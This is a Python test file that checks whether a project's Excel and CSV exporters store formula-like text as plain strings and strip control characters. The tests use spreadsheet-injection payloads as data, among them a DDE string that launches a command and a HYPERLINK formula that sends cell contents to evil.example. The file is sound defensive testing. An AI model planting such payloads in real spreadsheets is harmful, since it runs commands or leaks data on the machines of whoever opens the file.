"""The one Excel writer: text is never a formula, XML-illegal characters are dropped, typed values stay typed."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from fanxiang.core.excel import build_workbook, csv_text, stream_workbook
from fanxiang.entrepreneurs import services
from fanxiang.entrepreneurs.models import Entrepreneur
from fanxiang.entrepreneurs.tests.factories import person_data

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("writer", [build_workbook, stream_workbook])
def test_formula_like_text_is_a_string_cell(writer):
    content = writer("t", ["值"], [[v] for v in FORMULAS])
    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)
    ws = load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(FORMULAS)
    # XML parsers normalise a literal CR to LF when reading; the text is otherwise exact
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in FORMULAS]


@pytest.mark.parametrize("writer", [build_workbook, stream_workbook])
def test_illegal_characters_are_dropped_and_types_kept(writer):
    row = ["张\u0007\u001b三\ud800", -5, Decimal("-12.50"), 1.5, True, dt.date(2024, 3, 1), "a\tb\nc"]
    content = writer("t", list("abcdefg"), [row])
    ws = load_workbook(io.BytesIO(content)).active
    values = [c.value for c in next(ws.iter_rows(min_row=2))]
    assert values[0] == "张三"
    assert values[1] == -5 and values[2] == Decimal("-12.50") == Decimal(str(values[2]))
    assert values[3] == 1.5 and values[4] is True
    assert values[5] == dt.datetime(2024, 3, 1)
    assert values[6] == "a\tb\nc"
    assert [c.data_type for c in next(ws.iter_rows(min_row=2))][1:4] == ["n", "n", "n"]


def test_csv_text_quotes_formula_prefixes():
    assert csv_text("=1") == "'=1" and csv_text("＝1") == "'＝1" and csv_text("张三") == "张三"
    assert csv_text("张\u0007三") == "张三"


def test_registry_export_writes_formula_name_and_notes_as_text(api, demo):
    person = services.entrepreneur_create(actor=demo["officer_411625"], data=person_data(name="导出人"))
    # stored directly: the validators may refuse control characters, the export must survive old rows
    Entrepreneur.objects.filter(pk=person.pk).update(
        name="=cmd|' /C calc'!A0",
        notes='=HYPERLINK("http://evil.example/?x="&A1,"x")',
        skills="张\u0007\u001b三",
    )
    response = api("officer_411625").get("/api/v1/entrepreneurs/export", {"reveal": "true"})
    assert response.status_code == 200
    assert "<f>" not in sheet_xml(response.content)
    ws = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2], strict=False)}
    name_cell = ws.cell(row=2, column=1)
    assert name_cell.value == "=cmd|' /C calc'!A0" and name_cell.data_type == "s"
    texts = {c.value for c in row.values()}
    assert '=HYPERLINK("http://evil.example/?x="&A1,"x")' in texts and "张三" in texts


@pytest.mark.parametrize("case_index", [0, 1], ids=["recommenders", "ledger"])
def test_credit_page_exports_write_formula_text_as_text(web, demo, case_index):
    from fanxiang.credit.tests.scope_cases import CASES

    case = CASES[case_index]
    obj = case.make("411625")
    field = "name" if case_index == 0 else "reason"
    case.model.objects.filter(pk=obj.pk).update(**{field: "=cmd|' /C calc'!A0\u0007"})
    response = web("officer_411625").get(case.export_url)
    assert response.status_code == 200
    assert "<f>" not in sheet_xml(response.content)
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == "=cmd|' /C calc'!A0"]
    assert cells and all(c.data_type == "s" for c in cells)
